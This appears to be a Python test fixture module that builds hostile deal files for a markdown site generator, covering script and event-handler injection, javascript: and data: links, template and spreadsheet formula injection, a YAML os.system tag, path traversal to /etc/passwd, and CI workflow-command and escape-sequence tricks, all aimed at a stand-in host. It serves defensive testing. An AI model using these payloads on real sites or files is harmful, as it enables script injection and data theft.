"""Deal files that mean harm: payloads, and the places where a deal file can hold them.

Whatever of theirs runs calls `boo`, sets it, prints it, or asks the host `boo.invalid` for something.
"""

# ruff: noqa: E501 - a payload stands on one line

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import NamedTuple

from tests.hostile.bombs import FRONT_BOMBS, NOTE_BOMBS


class Case(NamedTuple):
    """A file that means harm; `path` is relative to the deals folder."""

    name: str
    path: str
    content: bytes


SCRIPT = "<script>boo()</script>"
PAYLOADS = {
    "script": SCRIPT,
    "script-mixed-case": "<ScRiPt/x>boo()</sCrIpT >",
    "script-from-elsewhere": "<script src=//boo.invalid/x.js></script>",
    "script-after-closing": f"</title></textarea></style></script></svg></math>--></noscript>{SCRIPT}",
    "script-in-comment": f"<!--><!-- {SCRIPT} --!>{SCRIPT}",
    "script-halves": "<scr<script>ipt>boo()</scr</script>ipt>",
    "script-cdata": f"<![CDATA[{SCRIPT}]]>",
    "handler-error": "<img src=x onerror=boo()>",
    "handler-error-unclosed": "<img src=x onerror=boo() ",
    "handler-load": "<svg/onload=boo()>",
    "handler-toggle": "<details open ontoggle=boo()>",
    "handler-focus": "<input autofocus onfocus=boo()>",
    "handler-animation": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=boo()>",
    "handler-out-of-double-quotes": '" onmouseover="boo()" autofocus onfocus="boo()" x="',
    "handler-out-of-single-quotes": "' onmouseover='boo()' autofocus onfocus='boo()' x='",
    "handler-out-of-backticks": "` onmouseover=boo() autofocus onfocus=boo() x=`",
    "link-javascript": '<a href="javascript:boo()">x</a> javascript:boo()',
    "link-entities": '<a href="&#106;avascript&colon;boo()">x</a>',
    "link-data": f'<a href="data:text/html,{SCRIPT}">x</a>',
    "base": '<base href="https://boo.invalid/"><base target=_top>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://boo.invalid/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "frame": '<iframe srcdoc="<script>parent.boo()</script>"></iframe><frameset onload=boo()>',
    "object": "<object data=//boo.invalid></object><embed src=//boo.invalid>",
    "form": '<form action="https://boo.invalid/"><button formaction="javascript:boo()">Sign in</button></form>',
    "style": "<style>*{display:none}@import '//boo.invalid'</style><link rel=stylesheet href=//boo.invalid>",
    "style-attribute": '<div style="position:fixed;inset:0;background:url(//boo.invalid)">x</div>',
    "class": '<div class="md-overlay md-search__overlay" hidden data-md-component="dialog">x</div>',
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=boo()/>#x"/><animate onbegin=boo()></svg>',
    "svg-link": '<svg><a xlink:href="javascript:boo()"><text y=20>x</text></a></svg>',
    "mathml": '<math><maction actiontype="statusline#//boo.invalid" xlink:href="javascript:boo()">x</math>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=boo()>">',
    "mutation-in-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=boo()>'>",
    "clobber-config": '<script id="__config" type="application/json">{"base":"//boo.invalid"}</script>',
    "clobber-search": '<a id="__search" name="__search"></a><form name="__md_scope"><img name=__md_get></form>',
    "template-jinja": "{{ 7*7 }}{% raw %}{{ config }}{{ self.__init__.__globals__ }}{# x #}",
    "template-format": "{0.__class__} %(boo)s %s ${boo} {subject} {item} $boo #{boo}",
    "slot": "playbook-slot-content-ends playbook-slot-policy-ends",
    "formula": '=HYPERLINK("https://boo.invalid","x")',
    "formula-command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-signs": "+1+cmd|' /C calc'!A0",
    "calendar": "x\\nEND:VEVENT\\nBEGIN:VEVENT\\nATTACH:https://boo.invalid;ATTENDEE:mailto:a@boo.invalid",
    "workflow-command": "::error file=x::boo %0A::set-output name=x::boo ##[command]boo ::add-mask::a",
    "mention": "@everyone boo@boo.invalid #1 fixes #2 www.boo.invalid https://boo.invalid",
    "markdown": "[x](javascript:boo()) ![x](https://boo.invalid/x.png) <https://boo.invalid> **b** `c` | d | # e",
    "entities": "&lt;script&gt;boo()&lt;/script&gt; &#60;img src=x onerror=boo()&#62; &amp;lt;b&amp;gt;",
    "wide-brackets": "＜script＞boo()＜/script＞ ‹script› ＂ onload＝boo()",
    "search-syntax": "title:boo~9 +boo -boo ^9 *:* text:* a:b:c \\ <mark>boo</mark>",
    "json": '"]}</script>{"docs":[{"location":"//boo.invalid","title":"boo"}],"__proto__":{"x":1}}',
    "confusable": "раypal Аldermoor ᴀdmin\u0301\u0301\u0301\u0301 \u200b\u00ad\u2060invisible",
    "zalgo": "b" + "\u0301\u0316\u034f" * 40,
    "one-word": "w" * 900,
    "path": "../../../../etc/passwd ..\\..\\x file:///proc/self/environ",
}
"""Text that means harm; each is written into every field of a deal that takes text, and below it."""

DEAL = """\
---
title: {p}
stage: evaluate
owner: {p}
crm: {{system: {p}, id: {p}, url: "https://crm.example/?q=1", forecast: {p}}}
amount: EUR 1,200,000
close: 2027-03-31
effort: {{spent: 5 days, left: 10 days}}
decision: {{go: yes, by: {p}, date: 2026-11-02, reason: {p}, review: 2026-12-01}}
ask: {{what: {p}, whom_to_call: {p}, message: {p}, by: 2026-12-01}}
competitors: [hostile]
primary_competitor: hostile
assessment:
  customer_project: {{us: "+", hostile: "-", date: 2026-11-02, by: customer, evidence: {p}}}
  access_to_funds: {{us: "-", evidence: {p}}}
players:
  p1:
    part: approver
    support: mentor
    standing: inner circle
    coverage: in depth
    influences: [p2]
    business_agenda: {p}
    personal_agenda: {p}
    formal_criteria: [{p}]
    informal_criteria: [{p}]
    relationship: {{owner: {p}, message: {p}, access: {p}, return_access: {p}, next_contact: 2026-12-01}}
  p2: {{part: user}}
compelling_event: {{what: {p}, deadline: 2027-03-31, consequence: {p}, payback: {p}, source: {p}}}
chain: {{profile: [{p}], drivers: [{p}], initiatives: [{p}], capabilities: [{p}], solution: [{p}], differentiation: [{p}]}}
value:
  issue: {p}
  effect: {p}
  consequences: {p}
  help: {p}
  lines:
    saving: {{head: decrease, item: expenses, what: {p}, amount: "EUR 9,000", every: month, source: {p}, confirmed_by: p1}}
proposition:
  first: {{pattern: outcome, audience: p1, slots: {{outcome: {p}, solution: {p}}}}}
partners:
  hostile: {{role: {p}, owner: {p}, helps: {{one: {{what: {p}, criteria: [access_to_funds]}}}}}}
strategy: {{statement: {p}, carried_by: {p}, customer_objectives: [{p}], our_objectives: [{p}]}}
formal_criteria: [{p}]
informal_criteria: [{p}]
plan:
  goal: {p}
  objectives: {{one: {{what: {p}, measure: {p}, by: 2026-12-01}}}}
  strategy: {p}
  tactics: [{p}]
  resources: {{one: {{what: {p}}}}}
  milestones: {{one: {{what: {p}, by: 2026-11-01, owner: {p}}}}}
  actions: {{one: {{what: {p}, owner: {p}, due: 2026-11-01, resource: {p}, players: [p1]}}}}
control: {{delays: {{seen: 2026-11-20, note: {p}}}}}
accepted: {{gate-claimed: {{reason: {p}, until: 2027-01-01, by: {p}}}}}
reviews: {{first: {{held: 2026-11-02, led_by: {p}, conclusion: {p}, recommendations: [{p}]}}}}
---
"""
"""A deal with text in every field that takes any."""

CLOSED = "---\ntitle: {p}\nstage: closed\noutcome: {{result: lost, date: 2026-10-01, reason: {p}, winner: hostile, lesson: {p}}}\ncompetitors: [hostile]\n---\n"

SURROUNDINGS = {
    "index.md": "---\ntitle: {p}\nus: {{sales: [{p}]}}\nofferings: {{one: {p}}}\n---\n{p}\n",
    "texts/index.md": """\
---
title: {p}
industry: {p}
owner: {p}
profile: [{p}]
drivers: [{p}]
initiatives: [{p}]
metrics: [{p}]
outlook: {p}
finances: {{{p}: {{revenue: EUR 9, source: {p}, note: {p}}}}}
compelling_events: {{one: {{what: {p}, consequence: {p}}}}}
people:
  p1: {{name: {p}, title: {p}, email: {p}}}
  p2: {{name: {p}, reports_to: p1}}
team: {{one: {{name: {p}, role: {p}}}}}
offerings: {{one: {{state: has, note: {p}}}}}
---
{p}
""",
    "partners/hostile.md": "---\ntitle: {p}\nowner: {p}\ncontact: {p}\nmarkets: [{p}]\nengagement: {p}\n---\n{p}\n",
    "competitors/hostile.md": "---\ntitle: {p}\nstrengths: [{p}]\nweaknesses: [{p}]\nhow_they_sell: [{p}]\nhow_we_answer: [{p}]\n---\n{p}\n",
}
"""The files around the deals, which mean harm too: most of what a page can be broken out of, in one text."""
SEVERAL = "</title></script>\"'><script>boo()</script><img src=x onerror=boo()><base href=//boo.invalid>{{ 7*7 }}"

NOTES = {
    **{
        f"link-{number}": f"[x]({link})\n\n![x]({link})\n\n<{link}>\n\n[r]: {link}\n\n[y][r]"
        for number, link in enumerate(
            (
                "javascript:boo()",
                "JaVaScRiPt:boo()",
                "java\\script:boo()",
                "javascript&#58;boo()",
                "&#x6A;avascript:boo()",
                "javascript&colon;boo()",
                "java&Tab;script:boo()",
                "&#1;javascript:boo()",
                "%6Aavascript:boo()",
                "<javascript:boo()>",
                "vbscript:boo()",
                "livescript:boo()",
                "data:text/html,<script>boo()</script>",
                "data:text/html;base64,PHNjcmlwdD5ib28oKTwvc2NyaXB0Pg==",
                "data:image/svg+xml,<svg onload=boo()>",
                "DATA:,boo",
                "blob:https://boo.invalid/x",
                "file:///proc/self/environ",
                "view-source:javascript:boo()",
                "feed:javascript:boo()",
                "jar:https://boo.invalid!/x",
                "//boo.invalid/x",
                "\\\\boo.invalid/x",
                "/\\boo.invalid",
                "https:boo.invalid",
                "https://a@boo.invalid:1/",
                "../../../../../../etc/passwd",
                "../hostile/..%2f..%2f.git/config",
                "?__proto__[x]=1",
                "#__config",
                "mailto:a@boo.invalid?body=%0Aboo&attach=/etc/passwd",
                "tel:1;boo",
            )
        )
    },
    "title-out-of-quotes": '[x](https://e.example \'"onmouseover=boo() x="\') [y](https://e.example "\'><script>boo()</script>")',
    "alternative-out-of-quotes": '!["onerror=boo() x="><script>boo()</script>](x.png) ![x]("onerror=boo())',
    "language-out-of-quotes": '```" onmouseover=boo() class="x><script>boo()</script>\nx\n```',
    "attribute-list": "# x {#__config .md-overlay onclick=boo()}\n\ntext{: onmouseover=boo() }\n",
    "heading-id": "# __config\n# __search\n# location\n# <b id=__palette>x</b>\n",
    "footnote": "x[^__config]\n\n[^__config]: <script>boo()</script>",
    "autolinks": 'javascript:boo() https://boo.invalid/"onclick=boo() www.boo.invalid\'> a@boo.invalid" <a@boo.invalid>',
    "front-matter-again": "---\ntitle: other\n---\n{% include '/etc/passwd' %}\n--8<-- \"/etc/passwd\"\n",
    "mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=boo()>]; click A javascript:boo()\n```\n\n$$\\href{javascript:boo()}{x}$$",
    "directives": "!!! note\n::: x onload=boo()\n[[../../secret]] {{< boo >}} ==x== ++x++ :smile: [[_TOC_]] [TOC]",
    "checked": '- [x] <input type="checkbox" checked="" disabled="" onclick=boo() />\n',
    "forged-placeholders": '&lt;img src="x" alt="y" /> <img src="javascript:boo()" alt="x" />\n',
    "slots": "playbook-slot-content-ends <!-- playbook-slot-toc-ends -->",
    "terminal": "plain \\x1b]0;boo\\x07",
    "comment-never-closed": "<!-- <script>boo()</script>\n\n<![CDATA[ \n\n<?php boo() \n\n<!X ",
    "plaintext": "<plaintext>\n\n<xmp>\n\n<textarea>\n\n<title>\n\n<noscript>\n\n<template>\n\n<select><option>",
    "closing-tags": "</article></main></body></html>\n\n</div></div></div>\n\n</table></section>",
    "half-tag": "text <script src=//boo.invalid/x.js?",
}
"""Notes that mean harm, below sound front matter."""

FRONT = {
    "byte-order": "title: x\nstage: evaluate\nowner: \ufeffboo\n",
    "bidi": "title: safe\u202e eltit\nstage: evaluate\n",
    "bidi-isolate": "title: \u2066safe\u2069\nstage: evaluate\n",
    "bidi-spelled-out": 'title: "safe\\u202e"\nstage: evaluate\n',
    "escape-spelled-out": 'title: "\\e]0;boo\\a\\x1b[2J"\nstage: evaluate\n',
    "escape": "title: \x1b]0;boo\x07\nstage: evaluate\n",
    "nul": "title: a\x00b\nstage: evaluate\n",
    "nul-spelled-out": 'title: "a\\0b"\nstage: evaluate\n',
    "bell": "title: a\x07b\nstage: evaluate\n",
    "line-separator": "title: a\u2028boo()\nstage: evaluate\n",
    "next-line": "title: a\u0085::error::boo\nstage: evaluate\n",
    "carriage-return": "title: a\r::error::boo\nstage: evaluate\n",
    "workflow-command-in-key": "title: x\nstage: evaluate\n'::error::boo': x\n'##[error]boo': x\n",
    "script-in-key": f"title: x\nstage: evaluate\n'{SCRIPT}': x\n",
    "lines-in-key": 'title: x\nstage: evaluate\n"a\\n::error::boo": x\n',
    "lines-in-value": 'title: "x\\n::error file=x::boo\\n##[error]boo"\nstage: "evaluate\\n::error::boo"\n',
    "lines-in-text": 'title: "x\\n::error file=x::boo\\n##[error]boo"\nstage: evaluate\nowner: "a\\nb"\n',
    "script-as-stage": f'title: x\nstage: "{SCRIPT}"\n',
    "script-as-date": f'title: x\nstage: evaluate\nclose: "{SCRIPT}"\n',
    "script-as-amount": f'title: x\nstage: evaluate\namount: "EUR {SCRIPT}"\n',
    "script-as-player": f"title: x\nstage: evaluate\nplayers: {{'{SCRIPT}': {{}}}}\n",
    "script-as-rating": f'title: x\nstage: evaluate\nassessment: {{access_to_funds: {{us: "{SCRIPT}"}}}}\n',
    "link-javascript": 'title: x\nstage: evaluate\ncrm: {url: "javascript:boo()"}\n',
    "link-lines": 'title: x\nstage: evaluate\ncrm: {url: "https://x\\njavascript:boo()"}\n',
    "link-out-of-quotes": "title: x\nstage: evaluate\ncrm: {url: 'https://x/\"onclick=boo()'}\n",
    "link-data": 'title: x\nstage: evaluate\ncrm: {url: "data:text/html,boo"}\n',
    "link-blank-before": 'title: x\nstage: evaluate\ncrm: {url: " javascript:boo()"}\n',
    "python-tag": "title: !!python/object/apply:os.system ['boo']\nstage: evaluate\n",
    "tag": "title: !include /etc/passwd\nstage: evaluate\n",
    "binary": "title: !!binary PHNjcmlwdD4=\nstage: evaluate\n",
    "anchor": "title: &a x\nstage: *a\n",
    "merge": "title: x\nstage: evaluate\n<<: {owner: boo}\n",
    "directive": "%TAG ! tag:boo.invalid,2000:\n---\ntitle: x\nstage: evaluate\n",
    "second-document": "title: x\nstage: evaluate\n...\ntitle: boo\n",
    "duplicate": "title: x\nstage: evaluate\ntitle: boo\n",
    "path-of-its-own": "title: x\nstage: evaluate\npath: ../../../etc/passwd\n",
    "notes-of-its-own": f"title: x\nstage: evaluate\nnotes: {SCRIPT}\nnotes_line: 1\n",
    "dunder": "title: x\nstage: evaluate\n__class__: x\n__proto__: {x: y}\nmodel_config: x\nconstructor: x\n",
    "dunder-below": "title: x\nstage: evaluate\nplayers: {__proto__: {}}\nassessment: {__class__: plus}\n",
    "complex-key": "title: x\nstage: evaluate\n? [a, b]\n: c\n",
    "wrong-shapes": "title: [x]\nstage: {a: b}\nplayers: x\nplan: [x]\nassessment: []\n",
    "winner-path": "title: x\nstage: closed\noutcome: {result: lost, date: 2026-01-01, winner: ../../x}\n",
    "infinite-rate": "title: x\nstage: evaluate\nvalue: {discount_rate: -100%, lines: {a: {head: decrease, item: expenses, amount: EUR 9, every: year}}}\n",
    "largest-figures": 'title: x\nstage: evaluate\namount: "EUR 999,999,999,999,999"\nvalue: {years: 20, discount_rate: 1000%, lines: {a: {head: decrease, item: expenses, amount: "EUR 999,999,999,999,999", every: month}}}\n',
    "smallest-figures": "title: x\nstage: evaluate\namount: EUR 0\nprofit: EUR -0.0001\nbudget: EUR 0\neffort: 0 days\nvalue: {lines: {a: {head: decrease, item: expenses, amount: EUR 0}}}\n",
    "earliest-days": "title: x\nstage: evaluate\nclose: 0001-01-01\nplan: {actions: {a: {what: x, due: 0001-01-01}, b: {what: x, due: 9999-12-31}}}\ncompelling_event: {what: x, deadline: 9999-12-31}\n",
    "foreign-digits": "title: x\nstage: evaluate\namount: EUR ١٢٣\nclose: ２０２７-01-01\n",
    "reserved-competitor": "title: x\nstage: evaluate\ncompetitors: [evidence, us, date]\n",
    "influences-circle": "title: x\nstage: evaluate\nplayers: {p1: {influences: [p2]}, p2: {influences: [p1], conflicts_with: [p1]}}\n",
}
"""Front matter that means harm by what it is, not by a text in it."""

IDS = (
    "config",
    "search",
    "location",
    "constructor",
    "top",
    "name",
    "length",
    "nav",
    "self",
    "index",
    "import",
    "con",
    "x" * 64,
)
"""Keys that a page's own scripts or ids could be confused with."""

PATHS = (
    "texts/.hidden.md",
    "texts/-rf.md",
    "texts/UPPER.md",
    "texts/a b.md",
    "texts/<script>boo()<script>.md",
    "texts/\x1b[2Jboo.md",
    "texts/line\nbreak::error::boo.md",
    "texts/\u202emd.exe.md",
    "texts/раypal.md",
    "texts/e\u0301.md",
    "texts/index.html",
    "texts/x.svg",
    "texts/robots.txt",
    "texts/x.md.js",
    "texts/" + "l" * 80 + ".md",
    "assets/x.md",
    "search/x.md",
    "export/x.md",
    "share/x.md",
    "__config/x.md",
    "texts/deeper/x.md",
    "mkdocs.yml",
    ".gitattributes",
    "hooks.py",
)
"""Names that mean harm; what stands in the files is sound."""

SOUND = b"---\ntitle: x\nstage: evaluate\n---\n"
BYTES = {
    "latin-1": b"---\ntitle: caf\xe9\nstage: evaluate\n---\n",
    "utf-16": "---\ntitle: x\n---\n".encode("utf-16"),
    "utf-7": b"---\ntitle: +ADw-script+AD4-boo()+ADw-/script+AD4-\nstage: evaluate\n---\n",
    "overlong": b"---\ntitle: \xc0\xbcscript\xc0\xbe\nstage: evaluate\n---\n",
    "surrogate": b"---\ntitle: \xed\xa0\x80\nstage: evaluate\n---\n",
    "html": b"<!doctype html><script>boo()</script>",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(64),
    "empty": b"",
    "never-closed": b"---\ntitle: x\n",
    "html-before": b"<script>boo()</script>\n---\ntitle: x\nstage: evaluate\n---\n",
}


def quoted(text: str) -> str:
    """Return text as YAML's double quotes hold it."""
    return json.dumps(text, ensure_ascii=False)


def surroundings() -> Iterator[Case]:
    """Yield the files around the deals: the team, an account, a partner and a competitor."""
    for path, text in SURROUNDINGS.items():
        front, _, notes = text.rpartition("---\n")
        yield Case(path, path, (front.format(p=quoted(SEVERAL)) + "---\n" + notes.format(p=SEVERAL)).encode())


def deals() -> Iterator[Case]:
    """Yield every deal file that a name can be given to on this disk as well as in git."""
    for name, text in PAYLOADS.items():
        yield Case(f"text {name}", f"texts/{name}.md", DEAL.format(p=quoted(text)).encode() + f"\n{text}\n".encode())
    yield Case("text of a closed deal", "texts/closed.md", CLOSED.format(p=quoted(SEVERAL)).encode())
    for name, text in (NOTES | NOTE_BOMBS).items():
        yield Case(f"notes {name}", f"notes/{name}.md", SOUND + text.encode())
    for name, text in (FRONT | FRONT_BOMBS).items():
        yield Case(f"front {name}", f"texts/front-{name}.md", f"---\n{text}---\n".encode())
    for name in IDS:
        yield Case(f"id {name}", f"ids-{name[:40]}/{name}.md", _with_ids(name))
    for name, content in BYTES.items():
        yield Case(f"bytes {name}", f"bytes/{name}.md", content)


def paths() -> Iterator[Case]:
    """Yield files whose names mean harm."""
    for path in PATHS:
        yield Case(f"path {path}", path, SOUND)


def _with_ids(name: str) -> bytes:
    keyed = f"{{{name}: {{what: x}}}}"
    lines = (
        "title: x",
        "stage: evaluate",
        f"competitors: [{name}]",
        f"assessment: {{access_to_funds: {{us: plus, {name}: minus}}}}",
        f"plan: {{objectives: {keyed}, milestones: {keyed}, actions: {keyed}, resources: {keyed}}}",
        f"value: {{lines: {{{name}: {{head: decrease, item: expenses, amount: EUR 9}}}}}}",
        f"proposition: {{{name}: {{pattern: outcome}}}}",
        f"reviews: {{{name}: {{held: 2026-11-02}}}}",
    )
    return "\n".join(["---", *lines, "---", ""]).encode()
